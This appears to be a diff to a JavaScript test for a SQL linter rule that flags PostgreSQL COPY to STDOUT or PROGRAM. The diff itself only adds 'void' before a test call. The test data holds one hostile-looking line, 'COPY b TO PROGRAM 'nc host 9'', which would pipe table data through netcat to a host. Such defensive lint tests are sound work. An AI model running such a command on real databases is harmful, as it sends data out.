@@ -24,7 +24,7 @@ testSqlRule(rule, {
   ],
 });
 
-it('copy-to-program-or-file reports STDOUT as a warning and PROGRAM as an error', async () => {
+void it('copy-to-program-or-file reports STDOUT as a warning and PROGRAM as an error', async () => {
   const code = "COPY a TO STDOUT;\nCOPY b TO PROGRAM 'nc host 9'";
   const found = runSqlRules([rule], analyzeSql(await parsers(), code, { dialect: 'postgresql' }));
   assert.deepEqual(
